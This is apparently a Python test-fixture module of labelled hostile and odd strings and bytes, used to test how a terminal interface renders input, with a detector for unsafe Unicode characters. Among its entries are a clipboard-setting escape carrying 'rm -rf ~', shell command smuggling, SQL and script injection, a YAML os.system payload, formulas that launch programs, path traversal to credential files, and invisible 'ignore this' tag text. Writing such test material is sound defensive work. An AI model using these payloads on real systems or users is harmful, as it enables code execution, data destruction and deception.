"""Text that is out to do harm, or merely unusual, for tests of every way in and every way out.

`PAYLOADS` are labelled strings, `RAW_BYTES` labelled bytes, `huge()` a megabyte on one line, made when asked for.
`dangerous()` says what a rendered output still holds; it is written apart from the gate, so as to be able to catch it.
"""

import re
import unicodedata

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

PAYLOADS: tuple[tuple[str, str], ...] = (
    # Markup of the terminal interface
    ("square brackets", "[brackets] and [[double]]"),
    ("markup that clicks", "[@click=app.quit]x[/]"),
    ("markup that clicks, quoted", "[@click=\"app.bell()\"]x[/@click]"),
    ("bold", "[b]bold[/b]"),
    ("bold, never closed", "[bold red on white]x"),
    ("closed, never opened", "x[/]"),
    ("closed as something else", "[b]x[/i]"),
    ("link in markup", "[link=https://example.org]x[/link]"),
    ("only an opening bracket", "["),
    ("only a closing bracket", "]"),
    ("escaped bracket", "\\[b]x"),
    ("backslash before a bracket at the end", "x\\["),
    ("variable in markup", "$primary [$error]x[/]"),
    ("emoji code", ":smile: :warning:"),
    # What a terminal obeys
    ("OSC 52 sets the clipboard", f"{ESC}]52;c;cm0gLXJmIH4={BEL}"),
    ("OSC 52, ended by ST", f"{ESC}]52;c;cm0gLXJmIH4={ST}"),
    ("OSC 8 link", f"{ESC}]8;;https://example.org{ST}click{ESC}]8;;{ST}"),
    ("OSC 0 title", f"{ESC}]0;owned{BEL}"),
    ("OSC 1337 file", f"{ESC}]1337;File=inline=1:AAAA{BEL}"),
    ("OSC, never ended", f"{ESC}]52;c;cm0gLXJm"),
    ("CSI clears the screen", f"{ESC}[2J{ESC}[3J"),
    ("CSI moves the cursor", f"{ESC}[1;1Hhome"),
    ("CSI hides what follows", f"{ESC}[8mhidden{ESC}[0m"),
    ("CSI colours", f"{ESC}[31;1mred{ESC}[m"),
    ("CSI leaves the other screen", f"{ESC}[?1049l"),
    ("CSI asks for a report", f"{ESC}[6n{ESC}[c{ESC}[>c"),
    ("CSI reports the title", f"{ESC}[21t"),
    ("CSI ends a bracketed paste", f"{ESC}[201~:quit\n"),
    ("DCS", f"{ESC}Pq#0;2;0;0;0{ST}"),
    ("DCS asks for a setting", f"{ESC}P$qm{ST}"),
    ("APC", f"{ESC}_Gf=100;AAAA{ST}"),
    ("PM", f"{ESC}^secret{ST}"),
    ("SOS", f"{ESC}Xstring{ST}"),
    ("reset", f"{ESC}c"),
    ("other character set", f"{ESC}(0lqqk{ESC}(B"),
    ("shift out and in", "\x0elqqk\x0f"),
    ("ESC alone", ESC),
    ("ESC at the end", f"text{ESC}"),
    ("eight-bit CSI", "\x9b2J\x9b31m"),
    ("eight-bit OSC", "\x9d52;c;cm0gLXJm\x9c"),
    ("eight-bit DCS", "\x90q\x9c"),
    ("eight-bit APC and PM", "\x9fx\x9c\x9ex\x9c"),
    ("every C0 control", "".join(map(chr, range(0x20)))),
    ("every C1 control", "".join(map(chr, range(0x80, 0xA0)))),
    ("NUL", "be\x00fore"),
    ("BEL", "ding\x07"),
    ("backspaces over what was said", "I agree\x08\x08\x08\x08\x08refuse"),
    ("DEL", "a\x7fb"),
    ("end of input and suspend", "\x04\x1a\x03"),
    # Direction and the invisible
    ("right-to-left override", "owner: \u202egnitirw\u202c"),
    ("left-to-right override", "\u202dabc\u202c"),
    ("embedding, never closed", "\u202aabc \u202bdef"),
    ("isolates", "\u2066abc\u2069 \u2067def\u2069 \u2068ghi"),
    ("direction marks", "a\u200eb\u200fc\u061cd"),
    ("byte order mark inside", "a\ufeffb"),
    ("interlinear annotation", "\ufff9seen\ufffahidden\ufffb"),
    ("invisible operators", "a\u2061b\u2062c\u2063d\u2064e"),
    ("words hidden in tags", "hello" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore this")),
    ("tags after a black flag", "\U0001f3f4" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore this")),
    ("language tag", "\U000e0001\U000e0065\U000e006e"),
    ("soft hyphens", "bound\xadary"),
    ("zero-width space", "Oka\u200bfor"),
    ("blank letters", "\u3164\u115f\u1160\uffa0"),
    ("blank braille", "\u2800\u2800"),
    # What can't be written down
    ("lone surrogate", "a\udcffb"),
    ("high surrogate", "a\ud83d"),
    ("surrogates the wrong way round", "\udc00\ud800"),
    ("noncharacters", "\ufffe\uffff\ufdd0\U0001ffff\U0010fffe"),
    ("private use", "\ue000\U000f0000"),
    ("unassigned", "\u0378\U000e0fff"),
    # Scripts and pictures
    ("family", "👨‍👩‍👧‍👦 came"),
    ("skin tones", "👍🏻👍🏿 🧑🏾‍🤝‍🧑🏼"),
    ("flags", "🇬🇧🇵🇱🏳️‍🌈"),
    ("flag of Scotland", "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"),
    ("half a flag", "🇬"),
    ("keycaps and hearts", "1️⃣ ❤️ ❤"),
    ("joiner alone", "\u200d"),
    ("variation selector alone", "\ufe0f"),
    ("Arabic", "قالت إنها بخير"),
    ("Hebrew in English", "she said שלום and left"),
    ("Persian with a non-joiner", "می‌خواهم"),
    ("Devanagari", "क्‍षमा करें"),
    ("Thai", "ขอบคุณค่ะ"),
    ("wide characters", "日本語の記録" * 10),
    ("decomposed accents", "Zoe\u0308 and E\u0301mile"),
    ("a storm of accents", "Z" + "\u0321\u0353\u0489\u0300" * 60 + "algo"),
    ("accent first", "\u0301first"),
    ("replacement sign", "\ufffd"),
    ("look-alikes", "раypal ɑdmin"),
    # Ends of lines
    ("CRLF", "one\r\ntwo"),
    ("CR overwrites", "I refuse\rI agree "),
    ("line separator", "one\u2028two"),
    ("paragraph separator", "one\u2029two"),
    ("next line", "one\x85two"),
    ("vertical tab and form feed", "one\x0btwo\x0cthree"),
    ("file, group and record separators", "one\x1ctwo\x1dthree\x1efour\x1ffive"),
    ("many empty lines", "\n" * 50),
    ("tabs", "\ta\t\tb\t"),
    # Other languages of computers
    ("template expression", "{{7*7}} {{ ''.__class__.__mro__ }}"),
    ("template statement", "{% for x in range(9) %}x{% endfor %}{# gone #}"),
    ("str.format", "{0.__class__} {} {people}"),
    ("percent format", "%s%n%d%(name)s%"),
    ("script", "<script>alert(1)</script>"),
    ("image with a handler", '<img src=x onerror="alert(1)">'),
    ("tag and entity", "</div><!-- &lt;b&gt; &amp; ]]> <![CDATA[x"),
    ("attribute breaks out", "\"'><svg onload=alert(1)>"),
    ("markdown link", "[here](javascript:alert(1))"),
    ("markdown image", "![x](https://example.org/x.png)"),
    ("markdown heading and rule", "# Heading\n---\n> quote\n- item\n1. one"),
    ("markdown fence", "```\ncode\n~~~\n"),
    ("markdown table and emphasis", "a | b *c* _d_ `e` ~~f~~ <https://example.org>"),
    ("link definition and footnote", "[a]: https://example.org\n[^1]: note"),
    ("formula", "=1+1"),
    ("formula with plus", "+cmd|' /C calc'!A0"),
    ("formula with minus", "-1+1"),
    ("formula with at", "@SUM(1,1)"),
    ("formula after a tab", "\t=1+1"),
    ("formula after CR", "\r=1+1"),
    ("formula after a space", " =1+1"),
    ("formula, full width", "＝1+1"),
    ("hyperlink formula", '=HYPERLINK("https://example.org","x")'),
    ("separators of tables", 'a,b;c"d"\te'),
    ("calendar event", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged"),
    ("calendar escapes", "a\\nb\\,c;d:e"),
    ("todo.txt", "x 2026-01-01 (A) done +project @context due:2026-01-02"),
    ("YAML object", "!!python/object/apply:os.system ['id']"),
    ("YAML structure", "key: value\n- item\n*alias &anchor | > %TAG"),
    ("JSON", '{"id": "x", "__proto__": {}}'),
    ("path upwards", "../../etc/passwd"),
    ("path from the root", "/etc/passwd"),
    ("NUL in a path", "notes\x00.json"),
    ("command in a shell", "$(id)"),
    ("command in backquotes", "`id`"),
    ("second command", "; rm -rf ~ #"),
    ("SQL", "'; DROP TABLE notes; --"),
    ("Word field", "{ INCLUDETEXT \"/etc/passwd\" } <w:p/>"),
    # Our own language
    ("slash command", "/sign"),
    ("two slashes", "//sign"),
    ("slash command on a second line", "note\n/sign\n/quit"),
    ("owner and date in a text", "ask @nobody due tomorrow"),
    ("option separators", "a | b | c | d | e"),
    ("our error mark", "! refused"),
    # Shapes
    ("backslash", "\\"),
    ("backslashes", "\\\\n\\x1b[2J\\u202e"),
    ("single quote", "'"),
    ("double quote", '"'),
    ("quotes unbalanced", "\"it's"),
    ("very long word", "w" * 1_900),
    ("only spaces", "     "),
    ("only wide and fixed spaces", "\u3000\xa0\u2003"),
    ("empty", ""),
    ("one character", "x"),
    ("looks like an option", "--json"),
    ("looks empty to a program", "null None NaN true"),
    # More of the same kinds, each met somewhere else
    ("OSC 4 changes a colour", f"{ESC}]4;1;rgb:00/00/00{BEL}"),
    ("OSC 7 names a folder", f"{ESC}]7;file:///etc{ST}"),
    ("OSC 9 notifies", f"{ESC}]9;message{BEL}"),
    ("OSC 10 asks for a colour", f"{ESC}]10;?{BEL}"),
    ("OSC 50 sets the font", f"{ESC}]50;x{BEL}"),
    ("OSC 133 marks a prompt", f"{ESC}]133;A{BEL}"),
    ("OSC 777 notifies", f"{ESC}]777;notify;a;b{BEL}"),
    ("CSI prints the screen", f"{ESC}[5i{ESC}[4i"),
    ("CSI resizes the window", f"{ESC}[8;1;1t"),
    ("CSI turns on the mouse", f"{ESC}[?1003h{ESC}[?1006h"),
    ("CSI scrolls a region", f"{ESC}[1;2r{ESC}[10S"),
    ("CSI with many numbers", f"{ESC}[" + "1;" * 200 + "m"),
    ("CSI, never ended", f"{ESC}[38;2;"),
    ("keys to a program, as kitty has it", f"{ESC}[>31u{ESC}[<u"),
    ("tmux passes it through", f"{ESC}Ptmux;{ESC}{ESC}]52;c;eA=={BEL}{ST}"),
    ("screen passes it through", f"{ESC}P{ESC}]52;c;eA=={BEL}{ST}"),
    ("sixel", f"{ESC}Pq~-~{ST}"),
    ("answerback", "\x05"),
    ("override in the middle of a name", "Sam\u202emas\u202c"),
    ("isolates within isolates", "\u2067" * 130 + "x"),
    ("variation selectors beyond the usual", "a\U000e0100b"),
    ("Mongolian vowel separator", "a\u180eb"),
    ("YAML anchors without end", "&a [*a, *a]"),
    ("YAML document end", "...\n---\n!!set {x}"),
    ("YAML merge key", "<<: *default"),
    ("YAML of another type", "!!binary aGVsbG8="),
    ("formula that starts a program", "=cmd|'/c calc'!A1"),
    ("formula that asks a server", '=WEBSERVICE("https://example.org/?"&A1)'),
    ("formula after a quote", "'=1+1"),
    ("formula after a line end", "x\n=1+1"),
    ("calendar alarm", "x\nBEGIN:VALARM\nACTION:EMAIL\nEND:VALARM"),
    ("calendar parameter", 'x";CN="y:mailto:a@example.org'),
    ("style", "<style>body{display:none}</style>"),
    ("frame", '<iframe src="https://example.org"></iframe>'),
    ("entity bomb", "<!DOCTYPE x [<!ENTITY a 'aa'>]><x>&a;&a;</x>"),
    ("address that runs", "data:text/html,<script>alert(1)</script>"),
    ("path of Windows", "C:\\Windows\\..\\x"),
    ("reserved name of Windows", "CON"),
    ("path with a home", "~root/.ssh/authorized_keys"),
    ("variable of a shell", "${IFS}$HOME"),
    ("new line for a log", "x\nINFO forged line"),
    ("template of another kind", "<%= 7*7 %> #{7*7} ${7*7}"),
    ("JSON that ends a script", "</script><!--"),
    ("very many combining flags", "\U0001f1ec" * 101),
)  # fmt: skip

RAW_BYTES: tuple[tuple[str, bytes], ...] = (
    ("a byte that is never UTF-8", b"\xff"),
    ("the same inside words", b"be\xfffore"),
    ("UTF-8 cut short", "Zoë 🙂".encode()[:-2]),
    ("continuation alone", b"\x80\xbf"),
    ("overlong slash", b"\xc0\xaf"),
    ("overlong NUL", b"\xc0\x80"),
    ("overlong ESC", b"\xe0\x80\x9b[2J"),
    ("encoded surrogates", b"\xed\xa0\xbd\xed\xb9\x82"),
    ("beyond Unicode", b"\xf4\x90\x80\x80"),
    ("Latin-1", "Zoë said café".encode("latin-1")),
    ("Windows quotes", "\u201cquoted\u201d \u2013 dash".encode("cp1252")),
    ("UTF-16 with its mark", "hello".encode("utf-16")),
    ("UTF-16 without", "hello".encode("utf-16-be")),
    ("UTF-32 with its mark", "hello".encode("utf-32")),
    ("UTF-8 with a byte order mark", b"\xef\xbb\xbfhello"),
    ("eight-bit CSI as one byte", b"\x9b2J"),
    ("eight-bit CSI in UTF-8", b"\xc2\x9b2J"),
    ("every byte", bytes(range(256))),
    ("NULs", b"\x00" * 64),
    ("empty", b""),
)


def huge() -> str:
    """One line of a megabyte."""
    return "supervision " * (1_000_000 // 12)


_FLAG = re.compile("\U0001f3f4[\U000e0030-\U000e0039\U000e0061-\U000e007a]{3,6}\U000e007f")
_DIRECTION = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def _unsafe(mark: str) -> bool:
    code = ord(mark)
    return (
        unicodedata.category(mark) in {"Cc", "Cs"}
        or unicodedata.bidirectional(mark) in _DIRECTION
        or mark in "\u200e\u200f\u061c\u2028\u2029\ufeff\ufff9\ufffa\ufffb"
        or 0x2060 <= code <= 0x206F
        or 0xE0000 <= code <= 0xE007F
        or 0xFDD0 <= code <= 0xFDEF
        or code & 0xFFFE == 0xFFFE
    )


def dangerous(rendered: str) -> list[str]:
    """The unsafe characters in `rendered`, in order, each as "U+202E NAME".

    Newline, tab and CR LF are not counted; the sequences that an interface itself emits are for the caller to take
    out first.
    """
    rest = _FLAG.sub("", rendered.replace("\r\n", "\n"))
    return [
        f"U+{ord(mark):04X} {unicodedata.name(mark, 'control')}"
        for mark in rest
        if mark not in "\n\t" and _unsafe(mark)
    ]
